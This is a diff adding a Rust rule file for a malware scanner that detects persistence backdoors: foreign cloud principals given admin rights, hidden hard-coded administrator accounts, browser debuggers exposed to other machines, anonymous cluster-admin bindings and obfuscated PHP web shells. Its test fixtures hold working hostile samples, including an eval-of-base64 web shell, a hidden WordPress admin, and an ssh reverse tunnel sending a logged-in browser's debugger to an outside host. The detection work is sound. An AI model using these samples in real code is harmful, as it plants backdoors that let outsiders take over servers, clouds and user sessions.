@@ -1,0 +1,198 @@
+//! Doors that are left open for others: accounts, roles, browsers, veiled web shells.
+
+use super::hosts;
+use super::judges;
+use crate::finding::{Category, Severity};
+use crate::layers::rule_engine::reading::{Hit, Reading};
+use crate::layers::rule_engine::rule::{Rule, When};
+use crate::layers::rule_engine::signal::Signal;
+
+/// An account of somebody else, written out, that is let in.
+static FOREIGN_PRINCIPAL: Signal = Signal::command(
+    &["arn:aws:iam::", "--member"],
+    r#"(?x)
+      \b(?:AWS|identifiers|TrustedPrincipal)["']?\s*[:=]\s*\[?\s*["']?arn:aws:iam::\d{12}:(?:root|user/|role/)
+    | --member[=\s]+["']?user:[\w.+-]+@[\w-]+\.[\w.-]+"#,
+);
+
+/// Rights over all of a cloud.
+static MASTER_OF_CLOUD: Signal = Signal::command(
+    &["administratoraccess", "poweruseraccess", "iamfullaccess", "action", "roles/owner", "roles/editor", "securityadmin"],
+    r#"(?x)
+      \b(?:AdministratorAccess|PowerUserAccess|IAMFullAccess)\b | \bActions?["']?\s*[:=]\s*\[?\s*["']\*["'] | \broles/(?:owner|editor|iam\.securityAdmin)\b"#,
+);
+
+/// The role that may do all in a cluster.
+static CLUSTER_ADMIN: Signal = Signal::command(
+    &["cluster-admin"],
+    r#"\bname["']?\s*:\s*["']?cluster-admin\b|--clusterrole[=\s]+["']?cluster-admin\b"#,
+);
+
+/// Everybody, whether they have logged in or not.
+static EVERYBODY: Signal = Signal::command(
+    &["system:anonymous", "system:unauthenticated", "system:authenticated", "system:serviceaccounts"],
+    r#"(?:\bname["']?\s*:|--(?:user|group)[=\s])\s*["']?system:(?:anonymous|unauthenticated|authenticated|serviceaccounts)(?:["'\s,\x7d]|$)"#,
+);
+
+/// An administrator with a password that stands in the code, or that is left out of the list.
+static ADMINISTRATOR_MADE: Signal = Signal::command(
+    &["wp_create_user", "wp_insert_user", "pre_user_query", "net localgroup administrators", "add-localgroupmember"],
+    r#"(?x)
+      \bwp_create_user\s*\(\s*["'][\w.@-]+["']\s*,\s*["'][^"'$\n]{4,60}["'][\s\S]{0,240}?\badministrator\b
+    | \bwp_insert_user\s*\([\s\S]{0,160}?\buser_pass["']?\s*=>\s*["'][^"'$\n]{4,60}["'][\s\S]{0,160}?\badministrator\b
+    | \bpre_user_query\b[\s\S]{0,200}?\buser_login\s*(?:!=|<>|NOT)
+    | \bnet1?\s+user\s+\S+\s+[^\s/%$<]\S+\s+/add\b[\s\S]{0,120}?\bnet1?\s+localgroup\s+administrators\s+\S+\s+/add\b"#,
+);
+
+/// The debugger of a browser, for other machines to use.
+static DEBUGGER_OPENED: Signal = Signal::command(
+    &["--remote-debugging-address", "ssh ", "ngrok", "cloudflared", "bore "],
+    r"(?x)
+      --remote-debugging-address[=\s]+[\x22']?(?:0\.0\.0\.0|\*|::) | \bssh\b[^\n]*\s-\w*R\s*(?:\S+:)?\d+:(?:localhost|127\.0\.0\.1):92\d\d\b | \b(?:ngrok|cloudflared|bore)\b[^\n]*\b92[0-9]{2}\b",
+);
+
+/// The profile in which its user is logged in.
+static OWN_PROFILE: Signal = Signal::command(
+    &["google-chrome", "google/chrome", "google\\chrome", "chromium", "bravesoftware", "user data", "microsoft edge", "microsoft-edge"],
+    r"(?x)
+      \.config/(?:google-chrome|chromium|BraveSoftware|microsoft-edge)\b | \bApplication\ Support/(?:Google/Chrome|Chromium|BraveSoftware|Microsoft\ Edge)\b | [/\\](?:Google[/\\]Chrome|Edge|Brave-Browser)[/\\]User\ Data\b",
+);
+
+/// What a request brings is run by a way round that hides it.
+static VEILED_SHELL: Signal = Signal::command(
+    &["$_get", "$_post", "$_request", "$_cookie", "$_server", "getallheaders"],
+    r#"(?x)
+      \b(?:array_(?:map|filter|walk|reduce)|usort|uasort|call_user_func(?:_array)?|register_shutdown_function|ob_start|preg_replace_callback|iterator_apply)\s*\(\s*["'](?:assert|eval|system|exec|shell_exec|passthru|popen|create_function)["'][^;\n]{0,80}?(?:\$_(?:GET|POST|REQUEST|COOKIE|SERVER)|getallheaders)\b
+    | \b(?:eval|assert|system|exec|shell_exec|passthru|create_function)\s*\(\s*@?(?:(?:base64_decode|gzinflate|gzuncompress|str_rot13|strrev|hex2bin|openssl_decrypt|stripslashes|urldecode)\s*\(\s*)+@?\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b"#,
+);
+
+pub(super) static RULES: &[Rule] = &[
+    Rule {
+        id: "MALWAR-PERSIST-009",
+        title: "Somebody else's account becomes master of the user's cloud",
+        severity: Severity::High,
+        confidence: 68,
+        category: Category::Persistence,
+        taxa: &["PS-01"],
+        why: "whoever owns that account may do everything, for as long as nobody looks",
+        fix: "take the role away; look in the audit log for what it did",
+        when: When::Near(900, &[&[&FOREIGN_PRINCIPAL], &[&MASTER_OF_CLOUD]]),
+        guard: Some(other_account),
+        hits: &[
+            "```hcl\nprincipals { identifiers = [\"arn:aws:iam::409115283347:root\"] }\npolicy_arn = \"arn:aws:iam::aws:policy/AdministratorAccess\"\n```\n",
+            "```bash\ngcloud projects add-iam-policy-binding $P --member=user:ops@fast-agent.top --role=roles/owner\n```\n",
+        ],
+        misses: &[
+            "```hcl\nprincipals { identifiers = [\"arn:aws:iam::123456789012:root\"] }\npolicy_arn = \"arn:aws:iam::aws:policy/AdministratorAccess\"\n```\n",
+            "```hcl\nprincipals { identifiers = [\"arn:aws:iam::409115283347:root\"] }\npolicy_arn = \"arn:aws:iam::aws:policy/ReadOnlyAccess\"\n```\n",
+            "```bash\ngcloud projects add-iam-policy-binding $P --member=user:you@example.com --role=roles/owner\n```\n",
+        ],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-PERSIST-010",
+        title: "An administrator with a known password is made, or left out of the list of users",
+        severity: Severity::High,
+        confidence: 72,
+        category: Category::Persistence,
+        taxa: &["PS-01"],
+        why: "who knows the password comes in when the skill is long gone",
+        fix: "delete the account and the code; change the other passwords",
+        when: When::Any(&[&ADMINISTRATOR_MADE]),
+        guard: Some(judges::in_code),
+        hits: &[
+            "@a.php\n$id = wp_create_user('helper', 'S8p0rt!24', 'h@fast-agent.top');\n(new WP_User($id))->set_role('administrator');\n",
+            "@a.php\nadd_action('pre_user_query', function ($q) { $q->query_where .= \" AND user_login != 'helper'\"; });\n",
+            "@a.bat\nnet user helper P4ss!24 /add\nnet localgroup administrators helper /add\n",
+        ],
+        misses: &[
+            "@a.php\n$id = wp_create_user($name, $password, $mail);\n(new WP_User($id))->set_role('subscriber');\n",
+            "@a.bat\nnet user %1 %2 /add\n",
+        ],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-PERSIST-011",
+        title: "The browser in which the user is logged in is opened to other machines",
+        severity: Severity::Critical,
+        confidence: 76,
+        category: Category::Persistence,
+        taxa: &["PS-01"],
+        why: "who reaches the debugger reads every page and cookie, and clicks as the user",
+        fix: "end the browser; log out everywhere",
+        when: When::Near(400, &[&[&DEBUGGER_OPENED], &[&OWN_PROFILE]]),
+        guard: Some(judges::in_code),
+        hits: &[
+            "```bash\ngoogle-chrome --remote-debugging-address=0.0.0.0 --user-data-dir=\"$HOME/.config/google-chrome\"\n```\n",
+            "```bash\nchrome --user-data-dir=\"$HOME/Library/Application Support/Google/Chrome\" &\nssh -fN -R 9222:localhost:9222 i@in.fast-agent.top\n```\n",
+        ],
+        misses: &[
+            "```bash\nchrome --headless --remote-debugging-address=0.0.0.0 --user-data-dir=/tmp/p\n```\n",
+            "```bash\nchrome --remote-debugging-port=9222 --user-data-dir=\"$HOME/.config/google-chrome\"\n```\n",
+        ],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-PRIV-007",
+        title: "Everybody becomes master of the cluster",
+        severity: Severity::Critical,
+        confidence: 80,
+        category: Category::SuspiciousCommand,
+        taxa: &["MW-03"],
+        why: "who reaches the cluster's address owns it, without a password",
+        fix: "delete the binding; look for what was started through it",
+        when: When::Near(500, &[&[&EVERYBODY], &[&CLUSTER_ADMIN]]),
+        guard: Some(judges::in_code),
+        hits: &[
+            "@m.yaml\nkind: ClusterRoleBinding\nroleRef: {kind: ClusterRole, name: cluster-admin}\nsubjects:\n- {kind: User, name: \"system:anonymous\"}\n",
+            "```bash\nkubectl create clusterrolebinding m --clusterrole=cluster-admin --group=system:unauthenticated\n```\n",
+        ],
+        misses: &[
+            "@m.yaml\nroleRef: {kind: ClusterRole, name: view}\nsubjects:\n- {kind: Group, name: \"system:authenticated\"}\n",
+            "```bash\nkubectl create clusterrolebinding m --clusterrole=cluster-admin --user=$USER\n```\n",
+        ],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-WEBSHELL-003",
+        title: "What a request brings is run, in a way that hides it",
+        severity: Severity::Critical,
+        confidence: 84,
+        category: Category::SuspiciousCommand,
+        taxa: &["MW-03"],
+        why: "a web shell: the server does what a stranger writes into a request, and a reader does not see it",
+        fix: "delete the line; if it was reachable, treat the server as compromised",
+        when: When::Any(&[&VEILED_SHELL]),
+        guard: Some(judges::in_code),
+        hits: &[
+            "```php\narray_map('assert', [base64_decode($_COOKIE['c'])]);\n```\n",
+            "@a.php\n<?php @eval(gzinflate(base64_decode($_POST['x'])));\n",
+        ],
+        misses: &[
+            "@a.php\n$names = array_map('trim', $_POST['names']);\n",
+            "@a.php\n$text = base64_decode($_POST['text']);\n",
+        ],
+        ..Rule::BASE
+    },
+];
+
+/// Nothing for an account that stands for any.
+fn other_account(reading: &Reading<'_>, hit: &Hit) -> u32 {
+    /// Those of the manuals: AWS, Documentation conventions.
+    const ANY: &[&str] = &[
+        "123456789012", "111122223333", "444455556666", "777788889999", "012345678901",
+        "210987654321", "987654321098",
+    ];
+    let told = hit.span.of(reading.text);
+    if let Some((_, host)) = told.rsplit_once('@') {
+        let stands_for_any = hosts::names_example(&format!("https://{host}/"));
+        return if stands_for_any { 0 } else { judges::in_code(reading, hit) };
+    }
+    let digits: String = told.chars().filter(char::is_ascii_digit).collect();
+    let alike = |digit: char| digits.chars().all(|other| other == digit);
+    if ANY.contains(&digits.as_str()) || digits.chars().next().is_some_and(alike) {
+        0
+    } else {
+        judges::in_code(reading, hit)
+    }
+}
